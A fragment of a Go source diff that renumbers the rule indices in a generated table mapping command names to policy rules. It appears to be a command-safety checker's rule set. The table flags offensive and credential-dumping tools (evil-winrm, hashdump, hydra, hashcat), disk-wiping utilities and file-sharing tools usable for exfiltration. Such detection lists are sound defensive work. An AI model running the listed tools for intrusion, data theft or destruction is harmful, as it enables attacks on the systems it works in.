 			nameEntry{
 				Name:    "dweb",
 				Program: -1,
-				Rules:   []uint16{366},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name:    "dyff",
@@ -12745,7 +12761,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dynamodb-admin",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "e2fsck",
@@ -12758,12 +12774,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "eas",
 				Program: -1,
-				Rules:   []uint16{371, 372},
+				Rules:   []uint16{372, 373},
 			},
 			nameEntry{
 				Name:    "eas-cli",
 				Program: -1,
-				Rules:   []uint16{371, 372},
+				Rules:   []uint16{372, 373},
 			},
 			nameEntry{
 				Name:    "easy_install",
@@ -12772,12 +12788,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "easyrsa",
 				Program: -1,
-				Rules:   []uint16{280},
+				Rules:   []uint16{281},
 			},
 			nameEntry{
 				Name:    "eb",
 				Program: 62,
-				Rules:   []uint16{25, 26, 42, 157, 159, 200},
+				Rules:   []uint16{25, 26, 43, 158, 160, 201},
 			},
 			nameEntry{
 				Name: "echo",
@@ -12785,7 +12801,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ecs-cli",
 				Program: 62,
-				Rules:   []uint16{157},
+				Rules:   []uint16{158},
 			},
 			nameEntry{
 				Name:    "ecto",
@@ -12798,12 +12814,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "edge-addons",
 				Program: -1,
-				Rules:   []uint16{371},
+				Rules:   []uint16{372},
 			},
 			nameEntry{
 				Name:    "edgedb",
 				Program: 59,
-				Rules:   []uint16{144},
+				Rules:   []uint16{145},
 			},
 			nameEntry{
 				Name:    "edquota",
@@ -12812,22 +12828,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "efibootmgr",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "egrep",
 				Program: 13,
-				Rules:   []uint16{60, 61},
+				Rules:   []uint16{61, 62},
 			},
 			nameEntry{
 				Name:    "eksctl",
 				Program: 62,
-				Rules:   []uint16{25, 26, 224, 247},
+				Rules:   []uint16{25, 26, 225, 248},
 			},
 			nameEntry{
 				Name:    "elasticsearch-node",
 				Program: -1,
-				Rules:   []uint16{135},
+				Rules:   []uint16{136},
 			},
 			nameEntry{
 				Name:    "elasticsearch-sql-cli",
@@ -12876,21 +12892,21 @@ var shipped = Set{
 			nameEntry{
 				Name:    "emerge",
 				Program: 45,
-				Rules:   []uint16{444, 468},
+				Rules:   []uint16{445, 469},
 			},
 			nameEntry{
 				Name:  "enable",
-				Rules: []uint16{466},
+				Rules: []uint16{467},
 			},
 			nameEntry{
 				Name:    "encore",
 				Program: -1,
-				Rules:   []uint16{42, 157, 184},
+				Rules:   []uint16{43, 158, 185},
 			},
 			nameEntry{
 				Name:    "enpass",
 				Program: -1,
-				Rules:   []uint16{57},
+				Rules:   []uint16{58},
 			},
 			nameEntry{
 				Name:    "entire",
@@ -12903,7 +12919,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "env",
 				Program: 2,
-				Rules:   []uint16{430, 480, 481, 484},
+				Rules:   []uint16{431, 481, 482, 485},
 			},
 			nameEntry{
 				Name:    "env0",
@@ -12949,17 +12965,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "esxcli",
 				Program: -1,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "et",
 				Program: -1,
-				Rules:   []uint16{418},
+				Rules:   []uint16{419},
 			},
 			nameEntry{
 				Name:    "etcdctl",
 				Program: 59,
-				Rules:   []uint16{116},
+				Rules:   []uint16{117},
 			},
 			nameEntry{
 				Name:    "ethtool",
@@ -12968,7 +12984,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ettercap",
 				Program: -1,
-				Rules:   []uint16{55, 429},
+				Rules:   []uint16{56, 430},
 			},
 			nameEntry{
 				Name:    "eval",
@@ -12977,12 +12993,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "evans",
 				Program: 55,
-				Rules:   []uint16{75},
+				Rules:   []uint16{76},
 			},
 			nameEntry{
 				Name:    "evil-winrm",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "ex",
@@ -12991,7 +13007,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "exa",
 				Program: 7,
-				Rules:   []uint16{417},
+				Rules:   []uint16{418},
 			},
 			nameEntry{
 				Name:    "exec",
@@ -13011,7 +13027,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "exo",
 				Program: 62,
-				Rules:   []uint16{177, 205, 256},
+				Rules:   []uint16{178, 206, 257},
 			},
 			nameEntry{
 				Name:    "expand",
@@ -13023,7 +13039,7 @@ var shipped = Set{
 			},
 			nameEntry{
 				Name:  "export",
-				Rules: []uint16{278, 430, 480, 484},
+				Rules: []uint16{279, 431, 481, 485},
 			},
 			nameEntry{
 				Name:    "expr",
@@ -13032,7 +13048,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "extlinux",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "eyaml",
@@ -13042,12 +13058,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "eza",
 				Program: 7,
-				Rules:   []uint16{417},
+				Rules:   []uint16{418},
 			},
 			nameEntry{
 				Name:    "fab",
 				Program: 46,
-				Rules:   []uint16{124, 162, 252},
+				Rules:   []uint16{125, 163, 253},
 			},
 			nameEntry{
 				Name:    "fabric",
@@ -13060,7 +13076,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "falconctl",
 				Program: -1,
-				Rules:   []uint16{411},
+				Rules:   []uint16{412},
 			},
 			nameEntry{
 				Name:    "fallocate",
@@ -13080,7 +13096,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "fastlane",
 				Program: 33,
-				Rules:   []uint16{371, 373},
+				Rules:   []uint16{372, 374},
 			},
 			nameEntry{
 				Name: "fc",
@@ -13088,17 +13104,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "fcrontab",
 				Program: -1,
-				Rules:   []uint16{402},
+				Rules:   []uint16{403},
 			},
 			nameEntry{
 				Name:    "fd",
 				Program: 16,
-				Rules:   []uint16{417},
+				Rules:   []uint16{418},
 			},
 			nameEntry{
 				Name:    "fdesetup",
 				Program: -1,
-				Rules:   []uint16{411},
+				Rules:   []uint16{412},
 			},
 			nameEntry{
 				Name:    "fdfind",
@@ -13107,7 +13123,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "fdisk",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "ffmpeg",
@@ -13120,12 +13136,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ffsend",
 				Program: -1,
-				Rules:   []uint16{366, 380},
+				Rules:   []uint16{367, 381},
 			},
 			nameEntry{
 				Name:    "ffuf",
 				Program: -1,
-				Rules:   []uint16{429},
+				Rules:   []uint16{430},
 			},
 			nameEntry{
 				Name: "fg",
@@ -13145,7 +13161,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "find",
 				Program: 16,
-				Rules:   []uint16{62, 417},
+				Rules:   []uint16{63, 418},
 			},
 			nameEntry{
 				Name:    "findmnt",
@@ -13162,17 +13178,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "firebase",
 				Program: 62,
-				Rules:   []uint16{25, 26, 41, 42, 159, 184},
+				Rules:   []uint16{25, 26, 42, 43, 160, 185},
 			},
 			nameEntry{
 				Name:    "firebase-tools",
 				Program: -1,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "firefox-send",
 				Program: -1,
-				Rules:   []uint16{380},
+				Rules:   []uint16{381},
 			},
 			nameEntry{
 				Name:    "firejail",
@@ -13181,17 +13197,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "firewall-cmd",
 				Program: 65,
-				Rules:   []uint16{422},
+				Rules:   []uint16{423},
 			},
 			nameEntry{
 				Name:    "fish",
 				Program: 4,
-				Rules:   []uint16{391, 392, 447, 448},
+				Rules:   []uint16{392, 393, 448, 449},
 			},
 			nameEntry{
 				Name:    "fkill",
 				Program: 64,
-				Rules:   []uint16{419},
+				Rules:   []uint16{420},
 			},
 			nameEntry{
 				Name:    "flake8",
@@ -13200,17 +13216,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "flarectl",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "flashrom",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "flask",
 				Program: 46,
-				Rules:   []uint16{127, 130},
+				Rules:   []uint16{128, 131},
 			},
 			nameEntry{
 				Name:    "flatc",
@@ -13219,12 +13235,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "flatpak",
 				Program: 45,
-				Rules:   []uint16{444},
+				Rules:   []uint16{445},
 			},
 			nameEntry{
 				Name:    "flit",
 				Program: 33,
-				Rules:   []uint16{375},
+				Rules:   []uint16{376},
 			},
 			nameEntry{
 				Name:    "flock",
@@ -13233,42 +13249,42 @@ var shipped = Set{
 			nameEntry{
 				Name:    "fltmc",
 				Program: -1,
-				Rules:   []uint16{423},
+				Rules:   []uint16{424},
 			},
 			nameEntry{
 				Name:    "flutter",
 				Program: 33,
-				Rules:   []uint16{375},
+				Rules:   []uint16{376},
 			},
 			nameEntry{
 				Name:    "flux",
 				Program: 62,
-				Rules:   []uint16{231},
+				Rules:   []uint16{232},
 			},
 			nameEntry{
 				Name:    "fly",
 				Program: 62,
-				Rules:   []uint16{24, 25, 26, 42, 52, 159, 182, 192, 194, 200, 202, 203, 256},
+				Rules:   []uint16{24, 25, 26, 43, 53, 160, 183, 193, 195, 201, 203, 204, 257},
 			},
 			nameEntry{
 				Name:    "flyctl",
 				Program: 62,
-				Rules:   []uint16{24, 25, 26, 42, 52, 159, 182, 200, 202, 203, 256},
+				Rules:   []uint16{24, 25, 26, 43, 53, 160, 183, 201, 203, 204, 257},
 			},
 			nameEntry{
 				Name:    "flyte",
 				Program: -1,
-				Rules:   []uint16{141},
+				Rules:   []uint16{142},
 			},
 			nameEntry{
 				Name:    "flytectl",
 				Program: -1,
-				Rules:   []uint16{141},
+				Rules:   []uint16{142},
 			},
 			nameEntry{
 				Name:    "flyway",
 				Program: 49,
-				Rules:   []uint16{127, 130},
+				Rules:   []uint16{128, 131},
 			},
 			nameEntry{
 				Name:    "fmt",
@@ -13285,52 +13301,52 @@ var shipped = Set{
 			nameEntry{
 				Name:    "foreman",
 				Program: 46,
-				Rules:   []uint16{460},
+				Rules:   []uint16{461},
 			},
 			nameEntry{
 				Name:    "forever",
 				Program: 46,
-				Rules:   []uint16{460},
+				Rules:   []uint16{461},
 			},
 			nameEntry{
 				Name:    "forfiles",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "forge",
 				Program: 67,
-				Rules:   []uint16{184, 469},
+				Rules:   []uint16{185, 470},
 			},
 			nameEntry{
 				Name:    "forkbomb",
 				Program: -1,
-				Rules:   []uint16{438},
+				Rules:   []uint16{439},
 			},
 			nameEntry{
 				Name:    "format",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "format-volume",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{304},
 			},
 			nameEntry{
 				Name:    "format.com",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{304},
 			},
 			nameEntry{
 				Name:    "fossil",
 				Program: 51,
-				Rules:   []uint16{341},
+				Rules:   []uint16{342},
 			},
 			nameEntry{
 				Name:    "fpaste",
 				Program: -1,
-				Rules:   []uint16{366},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name:    "fpc",
@@ -13347,7 +13363,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "frpc",
 				Program: -1,
-				Rules:   []uint16{357},
+				Rules:   []uint16{358},
 			},
 			nameEntry{
 				Name:    "fsck",
@@ -13356,32 +13372,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "fsutil",
 				Program: -1,
-				Rules:   []uint16{302},
+				Rules:   []uint16{303},
 			},
 			nameEntry{
 				Name:    "fsutil.exe",
 				Program: -1,
-				Rules:   []uint16{302},
+				Rules:   []uint16{303},
 			},
 			nameEntry{
 				Name:    "ftp",
 				Program: 57,
-				Rules:   []uint16{380, 381},
+				Rules:   []uint16{381, 382},
 			},
 			nameEntry{
 				Name:    "fuser",
 				Program: 64,
-				Rules:   []uint16{419},
+				Rules:   []uint16{420},
 			},
 			nameEntry{
 				Name:    "fwupdmgr",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "fwupdtool",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "fx",
@@ -13398,7 +13414,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "garden",
 				Program: -1,
-				Rules:   []uint16{157},
+				Rules:   []uint16{158},
 			},
 			nameEntry{
 				Name:    "gatsby",
@@ -13423,12 +13439,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gci",
 				Program: -1,
-				Rules:   []uint16{22, 417},
+				Rules:   []uint16{22, 418},
 			},
 			nameEntry{
 				Name:    "gcloud",
 				Program: 62,
-				Rules:   []uint16{25, 26, 52, 159, 168, 169, 172, 173, 197, 198, 199, 203, 204, 205, 206, 247, 249, 256, 365, 378, 380},
+				Rules:   []uint16{25, 26, 53, 160, 169, 170, 173, 174, 198, 199, 200, 204, 205, 206, 207, 248, 250, 257, 366, 379, 381},
 			},
 			nameEntry{
 				Name:    "gcloud-components",
@@ -13437,27 +13453,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gcp",
 				Program: 18,
-				Rules:   []uint16{286},
+				Rules:   []uint16{287},
 			},
 			nameEntry{
 				Name:    "gcrane",
 				Program: -1,
-				Rules:   []uint16{378},
+				Rules:   []uint16{379},
 			},
 			nameEntry{
 				Name:    "gdb",
 				Program: 64,
-				Rules:   []uint16{479},
+				Rules:   []uint16{480},
 			},
 			nameEntry{
 				Name:    "gdisk",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "gdrive",
 				Program: -1,
-				Rules:   []uint16{380},
+				Rules:   []uint16{381},
 			},
 			nameEntry{
 				Name:    "gedit",
@@ -13466,17 +13482,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gel",
 				Program: 59,
-				Rules:   []uint16{144},
+				Rules:   []uint16{145},
 			},
 			nameEntry{
 				Name:    "gem",
 				Program: 44,
-				Rules:   []uint16{52, 375, 376, 386, 387, 396},
+				Rules:   []uint16{53, 376, 377, 387, 388, 397},
 			},
 			nameEntry{
 				Name:    "gemini",
 				Program: 67,
-				Rules:   []uint16{469, 471},
+				Rules:   []uint16{470, 472},
 			},
 			nameEntry{
 				Name:    "gemini-cli",
@@ -13485,7 +13501,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "getcap",
 				Program: 65,
-				Rules:   []uint16{62},
+				Rules:   []uint16{63},
 			},
 			nameEntry{
 				Name:    "getconf",
@@ -13521,7 +13537,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gh",
 				Program: 52,
-				Rules:   []uint16{25, 26, 27, 52, 188, 190, 195, 196, 202, 361, 362, 363, 380, 446},
+				Rules:   []uint16{25, 26, 27, 53, 189, 191, 196, 197, 203, 362, 363, 364, 381, 447},
 			},
 			nameEntry{
 				Name:    "gh-ost",
@@ -13538,7 +13554,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ghz",
 				Program: -1,
-				Rules:   []uint16{75},
+				Rules:   []uint16{76},
 			},
 			nameEntry{
 				Name:    "gi",
@@ -13548,7 +13564,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gigalixir",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "ginkgo",
@@ -13561,12 +13577,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gist",
 				Program: -1,
-				Rules:   []uint16{380},
+				Rules:   []uint16{381},
 			},
 			nameEntry{
 				Name:    "git",
 				Program: 50,
-				Rules:   []uint16{20, 35, 38, 304, 305, 306, 307, 309, 310, 311, 312, 313, 314, 315, 316, 317, 318, 319, 320, 321, 322, 323, 324, 325, 326, 327, 328, 329, 330, 332, 333, 334, 335, 336, 337, 338, 339, 340, 343, 344, 345, 346, 347, 348, 349, 350},
+				Rules:   []uint16{20, 35, 39, 305, 306, 307, 308, 310, 311, 312, 313, 314, 315, 316, 317, 318, 319, 320, 321, 322, 323, 324, 325, 326, 327, 328, 329, 330, 331, 333, 334, 335, 336, 337, 338, 339, 340, 341, 344, 345, 346, 347, 348, 349, 350, 351},
 			},
 			nameEntry{
 				Name:    "git-crypt",
@@ -13576,12 +13592,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "git-filter-branch",
 				Program: -1,
-				Rules:   []uint16{331},
+				Rules:   []uint16{332},
 			},
 			nameEntry{
 				Name:    "git-filter-repo",
 				Program: 51,
-				Rules:   []uint16{331},
+				Rules:   []uint16{332},
 			},
 			nameEntry{
 				Name:    "git-grep",
@@ -13602,22 +13618,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gitlab-ctl",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "gitlab-psql",
 				Program: -1,
-				Rules:   []uint16{194},
+				Rules:   []uint16{195},
 			},
 			nameEntry{
 				Name:    "gitlab-rails",
 				Program: -1,
-				Rules:   []uint16{194},
+				Rules:   []uint16{195},
 			},
 			nameEntry{
 				Name:    "gitlab-runner",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "gitleaks",
@@ -13631,7 +13647,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "glab",
 				Program: 52,
-				Rules:   []uint16{25, 26, 27, 52, 188, 190, 195, 202, 361, 362, 363, 380, 446},
+				Rules:   []uint16{25, 26, 27, 53, 189, 191, 196, 203, 362, 363, 364, 381, 447},
 			},
 			nameEntry{
 				Name:    "gln",
@@ -13644,32 +13660,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gluster",
 				Program: -1,
-				Rules:   []uint16{133},
+				Rules:   []uint16{134},
 			},
 			nameEntry{
 				Name:    "gmake",
 				Program: 30,
-				Rules:   []uint16{124},
+				Rules:   []uint16{125},
 			},
 			nameEntry{
 				Name:    "gmv",
 				Program: 19,
-				Rules:   []uint16{285},
+				Rules:   []uint16{286},
 			},
 			nameEntry{
 				Name:    "gnome-screenshot",
 				Program: -1,
-				Rules:   []uint16{369},
+				Rules:   []uint16{370},
 			},
 			nameEntry{
 				Name:    "go",
 				Program: 31,
-				Rules:   []uint16{386, 396},
+				Rules:   []uint16{387, 397},
 			},
 			nameEntry{
 				Name:    "gobuster",
 				Program: -1,
-				Rules:   []uint16{429},
+				Rules:   []uint16{430},
 			},
 			nameEntry{
 				Name:    "goenv",
@@ -13702,12 +13718,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "goose",
 				Program: 67,
-				Rules:   []uint16{127, 128, 130, 469, 471},
+				Rules:   []uint16{128, 129, 131, 470, 472},
 			},
 			nameEntry{
 				Name:    "gopass",
 				Program: 62,
-				Rules:   []uint16{33, 57, 246},
+				Rules:   []uint16{33, 58, 247},
 			},
 			nameEntry{
 				Name:    "gopls",
@@ -13716,7 +13732,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "goreleaser",
 				Program: 33,
-				Rules:   []uint16{375},
+				Rules:   []uint16{376},
 			},
 			nameEntry{
 				Name:    "gosec",
@@ -13729,7 +13745,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "govc",
 				Program: -1,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "govulncheck",
@@ -13738,12 +13754,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gpasswd",
 				Program: 65,
-				Rules:   []uint16{409},
+				Rules:   []uint16{410},
 			},
 			nameEntry{
 				Name:    "gpg",
 				Program: 65,
-				Rules:   []uint16{34, 279},
+				Rules:   []uint16{34, 280},
 			},
 			nameEntry{
 				Name:    "gpg-agent",
@@ -13752,7 +13768,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gpg2",
 				Program: 65,
-				Rules:   []uint16{34, 279},
+				Rules:   []uint16{34, 280},
 			},
 			nameEntry{
 				Name:    "gpgconf",
@@ -13769,12 +13785,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gradle",
 				Program: 34,
-				Rules:   []uint16{131, 375},
+				Rules:   []uint16{132, 376},
 			},
 			nameEntry{
 				Name:    "gradlew",
 				Program: 34,
-				Rules:   []uint16{131, 375},
+				Rules:   []uint16{132, 376},
 			},
 			nameEntry{
 				Name:    "graphite",
@@ -13787,17 +13803,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gremlin",
 				Program: -1,
-				Rules:   []uint16{144},
+				Rules:   []uint16{145},
 			},
 			nameEntry{
 				Name:    "grep",
 				Program: 13,
-				Rules:   []uint16{60, 61},
+				Rules:   []uint16{61, 62},
 			},
 			nameEntry{
 				Name:    "gridscale",
 				Program: -1,
-				Rules:   []uint16{177},
+				Rules:   []uint16{178},
 			},
 			nameEntry{
 				Name:    "grm",
@@ -13806,7 +13822,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "grok",
 				Program: 67,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "groovy",
@@ -13819,17 +13835,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "groupadd",
 				Program: 65,
-				Rules:   []uint16{409},
+				Rules:   []uint16{410},
 			},
 			nameEntry{
 				Name:    "groupdel",
 				Program: 65,
-				Rules:   []uint16{409},
+				Rules:   []uint16{410},
 			},
 			nameEntry{
 				Name:    "groupmod",
 				Program: -1,
-				Rules:   []uint16{409},
+				Rules:   []uint16{410},
 			},
 			nameEntry{
 				Name:    "groups",
@@ -13838,37 +13854,37 @@ var shipped = Set{
 			nameEntry{
 				Name:    "grpc_cli",
 				Program: 55,
-				Rules:   []uint16{75},
+				Rules:   []uint16{76},
 			},
 			nameEntry{
 				Name:    "grpcurl",
 				Program: 55,
-				Rules:   []uint16{75},
+				Rules:   []uint16{76},
 			},
 			nameEntry{
 				Name:    "grub-install",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "grub-mkconfig",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "grub2-install",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "grub2-mkconfig",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "grubby",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "grunt",
@@ -13893,12 +13909,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gsudo",
 				Program: -1,
-				Rules:   []uint16{449},
+				Rules:   []uint16{450},
 			},
 			nameEntry{
 				Name:    "gsutil",
 				Program: 62,
-				Rules:   []uint16{168, 169, 173, 204, 365, 380, 382},
+				Rules:   []uint16{169, 170, 174, 205, 366, 381, 383},
 			},
 			nameEntry{
 				Name:    "gt",
@@ -13907,7 +13923,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gtar",
 				Program: 24,
-				Rules:   []uint16{53, 300, 397},
+				Rules:   []uint16{54, 301, 398},
 			},
 			nameEntry{
 				Name:    "gtest",
@@ -13948,17 +13964,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hadoop",
 				Program: -1,
-				Rules:   []uint16{138},
+				Rules:   []uint16{139},
 			},
 			nameEntry{
 				Name:    "halt",
 				Program: 65,
-				Rules:   []uint16{420, 421},
+				Rules:   []uint16{421, 422},
 			},
 			nameEntry{
 				Name:    "harness",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name: "hash",
@@ -13966,17 +13982,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hashcat",
 				Program: -1,
-				Rules:   []uint16{55, 429},
+				Rules:   []uint16{56, 430},
 			},
 			nameEntry{
 				Name:    "hashdump",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "hasura",
 				Program: 49,
-				Rules:   []uint16{127, 130, 184},
+				Rules:   []uint16{128, 131, 185},
 			},
 			nameEntry{
 				Name:    "hasura-cloud",
@@ -13985,22 +14001,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hatch",
 				Program: 33,
-				Rules:   []uint16{124, 375},
+				Rules:   []uint16{125, 376},
 			},
 			nameEntry{
 				Name:    "hbase",
 				Program: -1,
-				Rules:   []uint16{139},
+				Rules:   []uint16{140},
 			},
 			nameEntry{
 				Name:    "hcloud",
 				Program: 62,
-				Rules:   []uint16{25, 26, 177, 199, 205, 256, 446},
+				Rules:   []uint16{25, 26, 178, 200, 206, 257, 447},
 			},
 			nameEntry{
 				Name:    "hdfs",
 				Program: -1,
-				Rules:   []uint16{138},
+				Rules:   []uint16{139},
 			},
 			nameEntry{
 				Name:    "hdiutil",
@@ -14009,7 +14025,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hdparm",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "head",
@@ -14022,12 +14038,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "helm",
 				Program: 62,
-				Rules:   []uint16{42, 51, 52, 159, 231, 375, 386},
+				Rules:   []uint16{43, 52, 53, 160, 232, 376, 387},
 			},
 			nameEntry{
 				Name:    "helmfile",
 				Program: 62,
-				Rules:   []uint16{159, 231},
+				Rules:   []uint16{160, 232},
 			},
 			nameEntry{
 				Name: "help",
@@ -14035,7 +14051,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "heroku",
 				Program: 62,
-				Rules:   []uint16{24, 25, 26, 41, 42, 52, 183, 200, 202, 256},
+				Rules:   []uint16{24, 25, 26, 42, 43, 53, 184, 201, 203, 257},
 			},
 			nameEntry{
 				Name:    "hex",
@@ -14052,26 +14068,26 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hey",
 				Program: 37,
-				Rules:   []uint16{76},
+				Rules:   []uint16{77},
 			},
 			nameEntry{
 				Name:    "hf",
 				Program: -1,
-				Rules:   []uint16{25, 26, 140, 374},
+				Rules:   []uint16{25, 26, 141, 375},
 			},
 			nameEntry{
 				Name:    "hg",
 				Program: 51,
-				Rules:   []uint16{341, 342},
+				Rules:   []uint16{342, 343},
 			},
 			nameEntry{
 				Name:    "hh.exe",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:  "history",
-				Rules: []uint16{277},
+				Rules: []uint16{278},
 			},
 			nameEntry{
 				Name:    "hive",
@@ -14092,7 +14108,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "host",
 				Program: 56,
-				Rules:   []uint16{360},
+				Rules:   []uint16{361},
 			},
 			nameEntry{
 				Name:    "hostname",
@@ -14101,7 +14117,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hostnamectl",
 				Program: 65,
-				Rules:   []uint16{426},
+				Rules:   []uint16{427},
 			},
 			nameEntry{
 				Name:    "htmlq",
@@ -14114,12 +14130,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "http",
 				Program: 55,
-				Rules:   []uint16{382},
+				Rules:   []uint16{383},
 			},
 			nameEntry{
 				Name:    "http-server",
 				Program: 46,
-				Rules:   []uint16{383},
+				Rules:   []uint16{384},
 			},
 			nameEntry{
 				Name:    "httpd",
@@ -14140,12 +14156,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hub",
 				Program: 50,
-				Rules:   []uint16{188, 304, 306, 361, 362, 380},
+				Rules:   []uint16{189, 305, 307, 362, 363, 381},
 			},
 			nameEntry{
 				Name:    "huggingface-cli",
 				Program: -1,
-				Rules:   []uint16{25, 26, 52, 140, 374},
+				Rules:   []uint16{25, 26, 53, 141, 375},
 			},
 			nameEntry{
 				Name:    "hugo",
@@ -14162,7 +14178,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hwclock",
 				Program: -1,
-				Rules:   []uint16{453},
+				Rules:   []uint16{454},
 			},
 			nameEntry{
 				Name:    "hwinfo",
@@ -14175,7 +14191,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hydra",
 				Program: -1,
-				Rules:   []uint16{55, 189, 429},
+				Rules:   []uint16{56, 190, 430},
 			},
 			nameEntry{
 				Name:    "hypercorn",
@@ -14188,17 +14204,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ibmcloud",
 				Program: 62,
-				Rules:   []uint16{25, 26, 51, 177, 256},
+				Rules:   []uint16{25, 26, 52, 178, 257},
 			},
 			nameEntry{
 				Name:    "icacls",
 				Program: 65,
-				Rules:   []uint16{299, 301},
